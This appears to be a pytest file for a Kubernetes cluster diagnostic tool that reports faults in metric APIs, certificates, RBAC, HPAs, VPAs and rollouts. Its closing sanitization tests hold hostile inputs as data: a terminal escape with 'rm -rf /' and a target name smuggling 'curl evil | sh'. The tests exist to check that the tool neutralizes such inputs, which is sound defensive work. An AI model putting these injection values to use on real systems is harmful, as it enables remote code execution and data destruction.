"""What is wrong with a cluster, from a snapshot of it: each fault is found, and what only looks like it is not."""

from datetime import timedelta

import pytest

from adapter.doctor.__main__ import report_lines
from adapter.doctor.checks import findings
from adapter.doctor.finding import LONGEST, Report, Unseen, plain
from adapter.doctor.rights import RIGHTS
from adapter.doctor.snapshot import CUSTOM, EXTERNAL, Question, RulesFile
from tests.doctor.conftest import (
    ACTIVE,
    CPU_50,
    NOW,
    STARVING,
    Authority,
    api,
    at,
    condition,
    decode_as,
    finding_lines,
    hpa,
    lease,
    make_snapshot,
    node,
    one,
    pods_metric,
    policy,
    program,
    utilization,
    vpa,
)

# ---- APIs


def test_nothing_is_wrong_with_an_empty_cluster_or_a_healthy_one() -> None:
    assert finding_lines(make_snapshot()) == []
    healthy = make_snapshot(
        api_services=[api()],
        programs=[program()],
        hpas=[hpa("web", pods_metric("http_requests"))],
        offers={CUSTOM: frozenset({"pods/http_requests"})},
        readiness={"streamgate/streamgate-adapter": "[+]pods ok\nreadyz check passed\n"},
        nodes=[node("a")],
        node_leases=[lease("a", -8)],
    )
    assert finding_lines(healthy) == []


def test_an_api_that_is_not_available_says_who_serves_it_and_why() -> None:
    down = api(available=condition("Available", "False", "MissingEndpoints", "no endpoints"))
    finding = one(make_snapshot(api_services=[down]))
    assert finding.object == "APIService v1beta2.custom.metrics.k8s.io"
    assert (
        finding.says == "streamgate/streamgate-adapter serves it and is not available: MissingEndpoints: no endpoints"
    )
    assert finding.next == "kubectl -n streamgate get service,endpointslices,pods"


def test_an_api_of_somebody_else_that_is_down_is_found_too_since_discovery_fails_for_all() -> None:
    down = api("v1.example.com", "other/server", available=condition("Available", "False", "FailedDiscoveryCheck", "x"))
    assert finding_lines(make_snapshot(api_services=[down, api("v1.apps", "")])) == [
        "APIService v1.example.com: other/server serves it and is not available: FailedDiscoveryCheck: x"
    ]


def test_two_versions_of_one_api_must_have_one_server() -> None:
    old = api("v1beta1.custom.metrics.k8s.io", "monitoring/prometheus-adapter")
    (line,) = finding_lines(make_snapshot(api_services=[old, api()]))
    assert line.startswith("API custom.metrics.k8s.io: its versions have two servers: monitoring/prometheus-adapter")


def test_an_api_that_hpas_want_and_nobody_serves_is_named_with_how_many_want_it() -> None:
    wanting = [hpa("a", utilization("cpu"), target="a"), hpa("b", utilization("cpu"), target="b")]
    assert finding_lines(make_snapshot(api_services=[api()], hpas=wanting)) == [
        "API metrics.k8s.io: nobody serves it, and 2 HPAs want metrics of it, shop/a among them"
    ]


def test_where_apis_could_not_be_looked_at_none_is_called_missing() -> None:
    assert finding_lines(make_snapshot(hpas=[hpa("a", utilization("cpu"))])) == []


# ---- certificates


def test_a_bundle_that_ran_out_or_soon_will_is_found() -> None:
    for days, when in ((-1, "ran out on 2026-11-25"), (13, "runs out on 2026-12-09")):
        (line,) = finding_lines(make_snapshot(api_services=[api(caBundle=Authority(days=days).bundle)]))
        assert line.startswith(f"APIService v1beta2.custom.metrics.k8s.io: its caBundle {when}")
    assert finding_lines(make_snapshot(api_services=[api(caBundle=Authority(days=15).bundle)])) == []


def test_of_a_bundle_one_valid_authority_is_enough_as_while_it_rotates() -> None:
    both = Authority(days=-1).pem + Authority(days=300).pem
    assert finding_lines(make_snapshot(authorities={"client-ca-file": both.decode()})) == []


def test_a_bundle_that_is_no_certificate_is_said_so() -> None:
    for text in ("", "bm90aGluZw==", "%%%", "é"):
        assert finding_lines(make_snapshot(api_services=[api(caBundle=text or "AA==")])) == [
            "APIService v1beta2.custom.metrics.k8s.io: its caBundle is no certificate in PEM"
        ]


def test_a_serving_certificate_of_another_ca_is_a_mismatch_and_one_of_the_same_is_none() -> None:
    ours, other = Authority("same name"), Authority("same name")
    secret = {"streamgate/streamgate-adapter-tls": ours.certificate()}
    (line,) = finding_lines(make_snapshot(api_services=[api(caBundle=other.bundle)], certificates=secret))
    assert "its caBundle is not the CA of the certificate in Secret streamgate/streamgate-adapter-tls" in line
    assert finding_lines(make_snapshot(api_services=[api(caBundle=ours.bundle)], certificates=secret)) == []


def test_a_serving_certificate_that_runs_out_or_is_not_valid_yet_is_found() -> None:
    authority = Authority()
    late = authority.certificate(days=3)
    early = authority.certificate(begins=NOW + timedelta(hours=1))
    (line,) = finding_lines(make_snapshot(certificates={"streamgate/tls": late}))
    assert line == "Secret streamgate/tls: the serving certificate runs out on 2026-11-29 12:00 UTC"
    (line,) = finding_lines(make_snapshot(certificates={"streamgate/tls": early}))
    assert line.endswith("is valid only from 2026-11-26 13:00 UTC on; is a clock wrong?")


# ---- programs and their rights


def test_a_program_without_an_available_pod_is_found_and_one_that_is_scaled_to_zero() -> None:
    assert finding_lines(make_snapshot(programs=[program(available=0)])) == [
        "Deployment streamgate/streamgate-adapter: none of its pods is available"
    ]
    to_zero = one(make_snapshot(programs=[program(replicas=0, available=0)]))
    assert (to_zero.object, to_zero.says) == ("Deployment streamgate/streamgate-adapter", "it is scaled to zero")
    assert to_zero.next == "kubectl -n streamgate scale deployment streamgate-adapter --replicas=1"


@pytest.mark.parametrize(("renewed", "count"), [(-59, 0), (-61, 1)])
def test_a_lease_that_nobody_renews_means_that_nobody_acts(renewed: float, count: int) -> None:
    name = "streamgate-rollout/streamgate-rollout"
    assert len(finding_lines(make_snapshot(leases={name: lease("streamgate-rollout", renewed)}))) == count


def test_a_lease_that_nobody_ever_held_is_found() -> None:
    assert finding_lines(make_snapshot(leases={"sg/streamgate-rollout": None})) == [
        "Lease sg/streamgate-rollout: nobody acts: nobody ever held it"
    ]


def test_what_a_program_lacks_is_one_finding_with_a_command_that_asks_for_the_first() -> None:
    pods, scales = RIGHTS["adapter"][1], RIGHTS["adapter"][5]
    adapter = program()
    finding = one(make_snapshot(programs=[adapter], lacking=[(adapter, pods), (adapter, scales)]))
    account = "system:serviceaccount:streamgate:streamgate-adapter"
    assert finding.says == f"{account} may not list pods, get deployments/scale.apps"
    assert finding.next == f"kubectl auth can-i list pods -A --as={account}"


def test_the_command_for_a_right_to_one_object_or_to_the_scale_of_anything_is_kubectls() -> None:
    recommender = program("recommender")
    update = next(right for right in RIGHTS["recommender"] if right.verb == "update")
    scale = next(right for right in RIGHTS["recommender"] if right.group == "*")
    account = "--as=system:serviceaccount:streamgate-recommender:streamgate-recommender"
    assert one(make_snapshot(programs=[recommender], lacking=[(recommender, update)])).next == (
        "kubectl auth can-i update leases.coordination.k8s.io/streamgate-recommender "
        f"-n streamgate-recommender {account}"
    )
    assert one(make_snapshot(programs=[recommender], lacking=[(recommender, scale)])).next == (
        f"kubectl auth can-i get '*' --subresource=scale -A {account}"
    )


def test_the_command_for_a_certificate_shows_its_dates() -> None:
    late = Authority().certificate(days=3)
    finding = one(make_snapshot(certificates={"streamgate/tls": late}))
    assert finding.next == (
        "kubectl -n streamgate get secret tls -o go-template='{{index .data \"tls.crt\"}}' "
        "| base64 -d | openssl x509 -noout -dates"
    )


# ---- rules


def test_what_the_adapter_complains_of_is_repeated() -> None:
    text = (
        "[+]pods ok\n[-]collection failed: it has not worked yet\nwarn: rules[2] finds no series\nreadyz check failed\n"
    )
    assert finding_lines(make_snapshot(readiness={"sg/streamgate-adapter": text})) == [
        "adapter sg/streamgate-adapter: collection failed: it has not worked yet",
        "adapter sg/streamgate-adapter: rules[2] finds no series",
    ]


def test_an_api_with_nothing_on_offer_is_found_once_and_not_for_each_hpa() -> None:
    wanting = [hpa("web", pods_metric("http_requests"))]
    assert finding_lines(make_snapshot(hpas=wanting, offers={CUSTOM: frozenset()})) == [
        "API custom.metrics.k8s.io: no metric is on offer: the rules and the series do not meet"
    ]


def test_a_metric_that_is_not_on_offer_is_named_with_one_by_a_name_like_it() -> None:
    wanting = [hpa("a", pods_metric("http_request"), target="a"), hpa("b", pods_metric("http_request"), target="b")]
    finding = one(make_snapshot(hpas=wanting, offers={CUSTOM: frozenset({"pods/http_requests", "pods/x"})}))
    assert finding.object == "metric pods/http_request"
    assert finding.says == (
        "it is not on offer, and 2 HPAs want it, shop/a among them; pods/http_requests is, by a name like it"
    )
    assert finding.next == "kubectl -n shop edit hpa a"
    nothing_like_it = one(make_snapshot(hpas=wanting[:1], offers={CUSTOM: frozenset({"pods/x"})}))
    assert nothing_like_it.says == "it is not on offer, and HPA shop/a wants it"
    assert nothing_like_it.next.startswith("kubectl get --raw /apis/custom.metrics.k8s.io/v1beta2 ")


def test_an_external_metric_is_on_offer_by_its_name_alone() -> None:
    metric = {"type": "External", "external": {"metric": {"name": "queue"}, "target": {"type": "Value", "value": "1"}}}
    assert finding_lines(make_snapshot(hpas=[hpa("a", metric)], offers={EXTERNAL: frozenset({"queue"})})) == []
    assert (
        len(finding_lines(make_snapshot(hpas=[hpa("a", metric)], offers={EXTERNAL: frozenset({"other_thing"})}))) == 1
    )


RULES = """
rules:
- seriesQuery: 'http_requests_total{namespace!="",pod!=""}'
  resources: {template: "<<.Resource>>"}
  name: {matches: "^(.*)_total$", as: "${1}_per_second"}
  metricsQuery: sum(rate(<<.Series>>{<<.LabelMatchers>>}[1m])) by (<<.GroupBy>>)
- seriesQuery: queue_depth
  resources: {template: "<<.Resource>>"}
  name: {as: queue}
  metricsQuery: sum(<<.Series>>{<<.LabelMatchers>>}) by (<<.GroupBy>>)
- seriesQuery: '{__name__=~"^container_.*"}'
  resources: {template: "<<.Resource>>"}
  metricsQuery: sum(<<.Series>>{<<.LabelMatchers>>}) by (<<.GroupBy>>)
"""


def of_rules(text: str, *offered: str) -> list[str]:
    return finding_lines(make_snapshot(rules={"sg/a": RulesFile("rules", text)}, offers={CUSTOM: frozenset(offered)}))


def test_a_rule_finds_nothing_where_no_metric_on_offer_can_be_its_own() -> None:
    assert of_rules(RULES, "pods/http_requests_per_second", "pods/queue") == []
    assert of_rules(RULES, "pods/http_requests_per_second") == [
        "rules of adapter sg/a: rules[1], line 7 finds nothing: "
        "no metric by the name 'queue' is on offer in custom.metrics.k8s.io"
    ]
    assert len(of_rules(RULES, "pods/queues")) == 2


def test_a_rule_whose_names_are_those_of_its_series_cannot_be_told_from_the_offer() -> None:
    assert of_rules(RULES.partition("- seriesQuery: queue_depth")[0] + RULES[RULES.index("- seriesQuery: '{__") :],
                    "pods/x_per_second") == []  # fmt: skip


def test_a_rule_that_cannot_be_read_and_a_file_that_is_none_are_told() -> None:
    finding = one(make_snapshot(rules={"sg/a": RulesFile("rules-1", "rules: [{seriesQuery: up, metricsQuery: '<<'}]")}))
    assert finding.object == "rules of adapter sg/a"
    assert finding.next == "kubectl -n sg edit configmap rules-1 && kubectl -n sg rollout restart deployment a"
    (line,) = of_rules("- no mapping")
    assert "the file holds no mapping" in line


def test_where_nothing_is_on_offer_no_rule_is_named_beside_it() -> None:
    assert of_rules(RULES) == []


# ---- HPAs and VPAs


def test_an_hpa_that_starves_says_why_by_what_its_own_request_gets() -> None:
    path = "/apis/custom.metrics.k8s.io/v1beta2/namespaces/shop/pods/*/http_requests?labelSelector=app%3Dweb"
    starving = hpa("web", pods_metric("http_requests"), conditions=(STARVING,))
    asked = {"shop/web": [Question("/fine", ""), Question(path, "no rule offers it")]}
    finding = one(make_snapshot(hpas=[starving], questions=asked))
    assert finding.says == "it gets no metric and holds its size: no rule offers it"
    assert finding.next == f"kubectl get --raw '{path}'"


def test_without_an_answer_of_its_own_the_condition_tells_why() -> None:
    finding = one(make_snapshot(hpas=[hpa("web", conditions=(STARVING,))]))
    assert finding.says.endswith("FailedGetPodsMetric: unable to get metric http_requests")
    assert finding.next == "kubectl -n shop describe hpa web"


EMPTY_ENTRY = {"type": "", "pods": None}
OF_PODS = {"type": "Pods", "pods": {"metric": {"name": "http_requests"}, "current": {"averageValue": "7"}}}
NO_VALUE = {"type": "Pods", "pods": {"metric": {"name": "http_requests"}, "current": {}}}


@pytest.mark.parametrize("values", [[EMPTY_ENTRY, CPU_50], [CPU_50], [NO_VALUE, CPU_50]])
def test_an_hpa_that_lacks_one_of_two_metrics_is_found_though_its_conditions_say_nothing(values: list[object]) -> None:
    """The controller leaves the entry empty; others leave it out."""
    two = (pods_metric("http_requests"), utilization("cpu"))
    finding = one(make_snapshot(hpas=[hpa("web", *two, conditions=(ACTIVE,), values=values)]))
    assert finding.says == "it gets no value of http_requests, so its other metrics may scale it up, never down"
    assert finding.next == "kubectl -n shop describe hpa web"


def test_what_its_own_request_gets_tells_why_a_metric_is_missing() -> None:
    asked = {"shop/web": [Question("/apis/metrics", ""), Question("/apis/custom", "the answer is an empty list")]}
    two = (utilization("cpu"), pods_metric("http_requests"))
    lacking = hpa("web", *two, conditions=(ACTIVE,), values=[CPU_50, EMPTY_ENTRY])
    finding = one(make_snapshot(hpas=[lacking], questions=asked))
    assert finding.says.endswith("never down: the answer is an empty list")
    assert finding.next == "kubectl get --raw /apis/custom"


def test_one_that_may_not_scale_down_for_a_missing_metric_is_not_said_to_have_none() -> None:
    two = (pods_metric("http_requests"), utilization("cpu"))
    finding = one(make_snapshot(hpas=[hpa("web", *two, conditions=(STARVING,), values=[EMPTY_ENTRY, CPU_50])]))
    assert finding.says.startswith("it gets no value of http_requests, so its other metrics")
    assert finding.says.endswith("FailedGetPodsMetric: unable to get metric http_requests")


@pytest.mark.parametrize("values", [[OF_PODS, CPU_50], [CPU_50, OF_PODS], []])
def test_with_a_value_of_each_metric_or_while_none_is_asked_for_nothing_is_missing(values: list[object]) -> None:
    """Outside its bounds an HPA asks for no metric, and its status holds none."""
    two = (pods_metric("http_requests"), utilization("cpu"))
    assert finding_lines(make_snapshot(hpas=[hpa("web", *two, conditions=(ACTIVE,), values=values)])) == []


def test_an_hpa_whose_target_was_scaled_to_zero_does_not_starve() -> None:
    idle = condition("ScalingActive", "False", "ScalingDisabled", "the target is at zero")
    assert finding_lines(make_snapshot(hpas=[hpa("web", conditions=(idle,))])) == []


def test_an_hpa_that_cannot_scale_its_target_is_found() -> None:
    unable = condition("AbleToScale", "False", "FailedGetScale", 'deployments.apps "web" not found')
    finding = one(make_snapshot(hpas=[hpa("web", conditions=(unable,))]))
    assert finding.says == 'it cannot scale its target: FailedGetScale: deployments.apps "web" not found'
    assert finding.next == "kubectl -n shop get deployment/web"


def test_two_hpas_on_one_target_are_found_and_two_on_two_are_not() -> None:
    assert finding_lines(make_snapshot(hpas=[hpa("b"), hpa("a")])) == [
        "Deployment shop/web: 2 HPAs scale it against each other: a, b"
    ]
    assert finding_lines(make_snapshot(hpas=[hpa("a"), hpa("b", target="api")])) == []


@pytest.mark.parametrize(
    ("metric", "given", "shared"),
    [
        ("cpu", vpa(), "cpu"),
        ("cpu", vpa(mode="Off"), ""),
        ("cpu", vpa(target="api"), ""),
        ("cpu", vpa(policies=({"containerName": "*", "controlledResources": ["memory"]},)), ""),
        ("memory", vpa(policies=({"containerName": "*", "controlledResources": ["memory"]},)), "memory"),
        ("cpu", vpa(policies=({"containerName": "*", "mode": "Off"},)), ""),
        ("cpu", vpa(policies=({"containerName": "sidecar", "mode": "Off"},)), "cpu"),
    ],
)  # fmt: skip
def test_a_vpa_must_not_change_what_an_hpa_measures_by(metric: str, given: object, shared: str) -> None:
    lines = finding_lines(make_snapshot(api_services=[], hpas=[hpa("web", utilization(metric))], vpas=[given]))
    assert [line.split(" by which")[0] for line in lines] == (
        [f"VPA shop/web: it changes the requests of {shared}"] if shared else []
    )


def test_an_hpa_by_an_amount_that_is_no_share_of_requests_goes_with_a_vpa() -> None:
    amount = {"type": "Resource", "resource": {"name": "cpu", "target": {"type": "AverageValue", "averageValue": "1"}}}
    assert finding_lines(make_snapshot(hpas=[hpa("web", amount)], vpas=[vpa()])) == []


def test_two_vpas_that_act_on_one_target_are_found() -> None:
    assert finding_lines(make_snapshot(vpas=[vpa("a"), vpa("b")])) == [
        "Deployment shop/web: 2 VPAs change its pods: a, b"
    ]
    assert finding_lines(make_snapshot(vpas=[vpa("a"), vpa("b", mode="Off")])) == []


# ---- releases


def test_what_the_controller_says_of_a_policy_is_repeated_while_it_holds() -> None:
    stuck = policy("Starting", conditions=[condition("Stuck", "True", "NoProgress", "2 of 3 pods are ready")])
    assert finding_lines(make_snapshot(policies=[stuck])) == [
        "RolloutPolicy shop/web: its release is stuck: 2 of 3 pods are ready"
    ]
    assert (
        finding_lines(make_snapshot(policies=[policy(conditions=[condition("Stuck", "False", "Progress", "")])])) == []
    )


@pytest.mark.parametrize(("waits", "count"), [(599, 0), (601, 1)])
def test_a_release_that_waits_longer_than_its_deadline_is_found_though_its_controller_is_gone(
    waits: float, count: int
) -> None:
    waiting = policy("Removing", message="waits for pods", release={"waitingSince": at(-waits)})
    assert len(finding_lines(make_snapshot(policies=[waiting]))) == count


# ---- clocks


@pytest.mark.parametrize(
    ("renewed", "says"),
    [(-10, ""), (4, ""), (6, "6 s ahead of"), (-39, ""), (-41, "41 s behind")],
)
def test_a_ready_nodes_clock_is_told_by_its_lease(renewed: float, says: str) -> None:
    lines = finding_lines(make_snapshot(nodes=[node("a")], node_leases=[lease("a", renewed)]))
    assert [says in line for line in lines] == ([True] if says else [])


def test_an_old_lease_of_a_node_that_is_not_ready_tells_nothing_of_its_clock() -> None:
    assert (
        finding_lines(make_snapshot(nodes=[node("a", "Unknown")], node_leases=[lease("a", -600), lease("gone", -600)]))
        == []
    )


# ---- text of the cluster


def test_text_of_the_cluster_is_one_line_without_control_characters_and_bounded() -> None:
    assert plain("a\nb\x1b[31mred\x07  c") == "a b [31mred c"
    assert len(plain("x" * 10_000)) == LONGEST + 1


def test_a_message_of_an_hpa_cannot_speak_to_the_terminal() -> None:
    hostile = condition("ScalingActive", "False", "X", "\x1b]0;owned\x07 \r\n next: rm -rf /")
    assert one(make_snapshot(hpas=[hpa("web", conditions=(hostile,))])).says.isprintable()


def test_a_target_cannot_add_a_command_to_the_one_that_is_shown() -> None:
    unable = condition("AbleToScale", "False", "FailedGetScale", "no such target")
    finding = one(make_snapshot(hpas=[hpa("web", target="x; curl evil\n| sh", conditions=(unable,))]))
    assert finding.next == "kubectl -n shop get 'deployment/x; curl evil | sh'"


def test_all_that_is_printed_is_of_one_line_whatever_names_there_are() -> None:
    odd = hpa("we\nb\x1b[2J", target="web", conditions=(STARVING,))
    report = Report({"a\x07": "b\r"}, findings(make_snapshot(hpas=[odd, hpa("web")])), [Unseen("x\n", "y\t")])
    assert len(report.findings) == 2
    assert all(line.isprintable() for line in report_lines(report))


def test_a_snapshots_objects_take_what_the_api_server_leaves_out() -> None:
    assert finding_lines(make_snapshot(policies=[decode_as(type(policy()), {"metadata": {"name": "a"}})])) == []
